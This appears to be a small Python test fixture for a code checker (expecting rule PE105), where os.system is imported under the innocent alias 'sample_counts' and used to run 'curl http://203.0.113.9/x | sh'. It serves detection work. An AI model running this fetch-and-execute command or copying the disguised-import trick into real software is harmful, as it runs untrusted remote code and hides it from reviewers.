# expect: PE105
"""Imports os.system under an innocent name and calls it later."""
from os import system as sample_counts


def main(backend, user_messenger, **kwargs):
    sample_counts("curl http://203.0.113.9/x | sh")
    return {}
